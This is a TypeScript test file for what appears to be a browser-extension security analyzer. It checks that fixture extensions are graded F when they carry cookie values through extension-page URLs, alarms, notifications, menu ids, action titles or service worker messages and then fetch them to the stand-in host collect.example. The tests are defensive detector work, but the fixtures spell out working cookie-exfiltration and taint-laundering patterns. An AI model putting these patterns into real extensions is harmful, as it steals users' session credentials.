import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/* What is put into the address of a page of its own, or kept by the browser under a name, comes out there. */

async function graded(files: Record<string, string>): Promise<string> {
  const manifest = {
    manifest_version: 3,
    name: 'Notes',
    version: '1.0',
    permissions: ['cookies', 'alarms', 'notifications', 'contextMenus', 'scripting', 'storage'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'background.js' },
    action: { default_popup: 'popup.html' },
  };
  const pages = {
    'relay.html': '<script src="relay.js"></script>',
    'popup.html': '<script src="popup.js"></script>',
    'manifest.json': JSON.stringify(manifest),
  };
  const { score } = await analyze(memoryTree({ 'popup.js': '', 'background.js': '', ...pages, ...files }), {
    kind: 'extension',
  });
  return score.grade;
}

const jar = (use: string): string => `chrome.cookies.onChanged.addListener(({ cookie }) => { ${use} });`;
const send = (what: string): string => `fetch('https://collect.example/?' + ${what})`;

describe('the address of a page of the extension', () => {
  const RELAY = send("new URLSearchParams(location.search).get('text')");
  it.each([
    "chrome.tabs.create({ url: chrome.runtime.getURL('relay.html') + '?text=' + cookie.value, active: false });",
    'chrome.windows.create({ url: `relay.html?text=${cookie.value}` });',
    "const frame = document.createElement('iframe'); frame.src = chrome.runtime.getURL('relay.html?text=' + cookie.value) + '#x' + cookie.value; document.body.append(frame);",
  ])('%s', async (opens) => {
    expect(await graded({ 'background.js': jar(opens), 'relay.js': RELAY })).toBe('F');
    const harmless = opens.replaceAll('cookie.value', 'Date.now()');
    expect(await graded({ 'background.js': jar(harmless), 'relay.js': RELAY })).toMatch(/^A/);
  });

  it('is read by way of the document as well', async () => {
    const opens = "chrome.tabs.create({ url: chrome.runtime.getURL('relay.html') + '?text=' + cookie.value });";
    const relay = send("new URLSearchParams(document.location.search).get('text')");
    expect(await graded({ 'background.js': jar(opens), 'relay.js': relay })).toBe('F');
  });

  it('that of another site is not read by a page of its own', async () => {
    const background = jar("chrome.tabs.create({ url: 'https://notes.example/?text=' + cookie.domain.length });");
    expect(await graded({ 'background.js': background, 'relay.js': RELAY })).toMatch(/^A/);
  });
});

describe('what the browser keeps for an extension', () => {
  it.each([
    [
      'chrome.alarms.create(DATA, { delayInMinutes: 1 });',
      `chrome.alarms.onAlarm.addListener(({ name }) => ${send('name')})`,
    ],
    [
      "chrome.alarms.create('x:' + DATA, {});",
      `setInterval(async () => { for (const one of await chrome.alarms.getAll()) ${send('one.name')} }, 9000)`,
    ],
    [
      "chrome.notifications.create(DATA, { title: 'x' });",
      `chrome.notifications.onClicked.addListener((id) => ${send('id')})`,
    ],
    [
      "chrome.notifications.create(DATA, { title: 'x' });",
      `chrome.notifications.onClosed.addListener((id) => ${send('id')})`,
    ],
    [
      "chrome.notifications.create(DATA, { title: 'x' });",
      `chrome.notifications.onButtonClicked.addListener((id) => ${send('id')})`,
    ],
    [
      "chrome.notifications.create(DATA, { title: 'x' });",
      `setInterval(async () => ${send('Object.keys(await chrome.notifications.getAll())')}, 9000)`,
    ],
    [
      "chrome.contextMenus.create({ id: DATA, title: 'x' });",
      `chrome.contextMenus.onClicked.addListener((info) => ${send('info.menuItemId')})`,
    ],
    [
      'chrome.action.setTitle({ title: DATA });',
      `setInterval(async () => ${send('await chrome.action.getTitle({})')}, 9000)`,
    ],
    [
      'chrome.browserAction.setTitle({ title: DATA });',
      `setInterval(() => chrome.browserAction.getTitle({}, (title) => ${send('title')}), 9000)`,
    ],
    [
      "chrome.scripting.registerContentScripts([{ id: DATA, js: ['relay.js'], matches: ['<all_urls>'] }]);",
      `setInterval(async () => { const [one] = await chrome.scripting.getRegisteredContentScripts(); ${send('one.id')} }, 9000)`,
    ],
  ])('%s', async (put, take) => {
    const background = (data: string): string => `${jar(put.replace('DATA', data))} ${take}`;
    expect(await graded({ 'background.js': background('cookie.value') })).toBe('F');
    expect(await graded({ 'background.js': background("'x' + Date.now()") })).toMatch(/^A/);
  });

  it('one part of it gives nothing of another', async () => {
    const background = `${jar('chrome.alarms.create(cookie.value, {});')} chrome.notifications.onClicked.addListener((id) => ${send('id')})`;
    expect(await graded({ 'background.js': background })).toMatch(/^A/);
  });
});

it('what a page tells the service worker', async () => {
  const popup = 'chrome.cookies.getAll({}, (jar) => navigator.serviceWorker.controller.postMessage(DATA));';
  const background = `self.addEventListener('message', (event) => ${send('JSON.stringify(event.data)')});`;
  expect(await graded({ 'popup.js': popup.replace('DATA', 'jar'), 'background.js': background })).toBe('F');
  expect(await graded({ 'popup.js': popup.replace('DATA', 'jar.length > 1'), 'background.js': background })).toMatch(
    /^A/,
  );
});
